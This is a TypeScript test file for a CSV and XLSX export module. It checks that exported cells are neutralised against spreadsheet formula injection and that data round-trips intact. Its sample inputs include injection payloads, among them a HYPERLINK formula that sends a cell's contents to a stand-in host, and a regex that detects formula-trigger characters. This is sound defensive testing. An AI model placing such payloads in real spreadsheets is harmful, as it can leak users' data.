import fc from 'fast-check';
import { readTable } from '../reading/table.js';
import { readRows } from '../columns/rows.js';
import { tableKindNames, tableKinds } from '../kinds/kinds.js';
import { shippedCodeTables } from '#domain';
import { writeCsv, type Written } from './csv.js';
import { writeTemplate } from './template.js';
import { writeXlsx } from './xlsx.js';

const notes = [
  '=HYPERLINK("http://example.test/?"&A2)',
  '@SUM(1)',
  '说“好”\n第二行, "quoted"',
  "'=1",
  ' =1',
  "' -5",
  '\t=1',
  '＝1',
  '-5+1',
  '_x000D_',
];
const rows: Written[][] = [
  ['编号', '备注', '电话', '变动'],
  ...notes.map((note) => ['0012', note, '+8613800000000', -5]),
];

async function cells(bytes: Uint8Array): Promise<string[][]> {
  const table = await readTable(bytes);
  if ('faults' in table) throw new Error(JSON.stringify(table.faults));
  return table.rows.map((row) => row.map(({ text }) => text));
}

const asTexts = (written: readonly (readonly Written[])[]): string[][] =>
  written.map((row) => row.map((value) => String(value ?? '')));

describe('a list that goes out', () => {
  it('runs nowhere as a formula, keeps its numbers, and is known as UTF-8', async () => {
    const csv = writeCsv(rows);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.toString('utf8').slice(1);
    // no cell of a text begins with what a spreadsheet would run
    expect(text).not.toMatch(/(^|,|\n)"?\s*[=@+＝]/);
    expect(text).toMatch(/,-5\r\n/);
    expect(writeCsv([['-5', '-5+1', ' =1', '3.2']]).toString()).toBe("\ufeff-5,'-5+1,' =1,3.2\r\n");
    const table = await readTable(new Uint8Array(await writeXlsx([{ name: 's', rows }])));
    if ('faults' in table) throw new Error('faults');
    expect(table.rows[1]?.map(({ form }) => form)).toEqual(['text', 'text', 'text', 'number']);
  });

  it('comes in again as it went out', async () => {
    expect(await cells(new Uint8Array(writeCsv(rows)))).toEqual(asTexts(rows));
    expect(await cells(new Uint8Array(await writeXlsx([{ name: 's', rows }])))).toEqual(asTexts(rows));
  });

  it('comes in again whatever is in it', async () => {
    const any = fc.stringMatching(/^[ a-z0-9=+@'"',;\t\n＝中_x-]{0,12}[a-z5]$/);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(any, any), { minLength: 1, maxLength: 5 }), async (pairs) => {
        const given = [['a', 'b'], ...pairs];
        expect(await cells(new Uint8Array(writeCsv(given)))).toEqual(given);
        expect(await cells(new Uint8Array(await writeXlsx([{ name: 's', rows: given }])))).toEqual(given);
      }),
      { numRuns: 60 },
    );
  });
});

describe.each(tableKindNames)('the template of %s', (kind) => {
  const columns = tableKinds[kind](shippedCodeTables);

  it.each(['csv', 'xlsx'] as const)(
    'as %s is read by the columns that it names, in both languages',
    async (format) => {
      for (const language of ['zh-CN', 'en'] as const) {
        const table = await readTable(new Uint8Array(await writeTemplate(columns, format, language)));
        if ('faults' in table) throw new Error(JSON.stringify(table.faults));
        const read = readRows(table, columns);
        expect(read.faults).toEqual([]);
        expect(read.heading?.ignored).toEqual([]);
        expect(Object.keys(read.rows[0]?.says ?? {}).sort()).toEqual(Object.keys(columns).sort());
      }
    },
  );
});
